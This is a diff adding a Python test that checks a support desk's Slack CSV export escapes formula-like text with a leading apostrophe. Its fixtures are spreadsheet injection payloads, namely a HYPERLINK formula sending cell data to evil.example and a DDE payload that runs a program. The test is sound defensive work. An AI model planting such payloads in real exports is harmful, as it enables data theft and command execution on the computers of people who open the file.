@@ -126,6 +126,26 @@ async def test_the_csv_export_is_a_file_in_the_supervisors_private_messages(star
     assert len(desk.slack.files) == 2
 
 
+async def test_the_csv_export_shows_formula_like_text_as_text_not_as_a_formula(start_desk: StartDesk) -> None:
+    desk = await start_desk(slack_supervisors="UBOSS")
+    hostile = {
+        MARIA: '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
+        JOAO: "+55 11 4002-8922 ligue já",
+        BIA: "-2+3+cmd|' /C calc'!A0",
+    }
+    parents = {phone: await customer_writes(desk, phone, phone, "oi") for phone in hostile}
+    await desk.rows("UPDATE customers SET plan = '@SUM(1+1)' WHERE address = ?", MARIA)  # platform data
+    for phone, words in hostile.items():
+        await agent_notes(desk, parents[phone], f"//ideia {words}")
+
+    await desk.command("ideias --csv", user="UBOSS")
+    [export] = desk.slack.files.values()
+    rows = list(csv.reader(io.StringIO(export["data"].decode("utf-8"))))
+    ideas = {row[1]: row[3] for row in rows[1:]}
+    assert set(ideas) == {"'" + words for words in hostile.values()}  # shown as typed, never run
+    assert ideas["'" + hostile[MARIA]] == "'@SUM(1+1) 1"
+
+
 async def test_a_csv_export_slack_refuses_is_told_and_can_be_asked_again(start_desk: StartDesk) -> None:
     desk = await start_desk(slack_supervisors="UBOSS")
     maria = await customer_writes(desk, MARIA, "Maria", "oi")
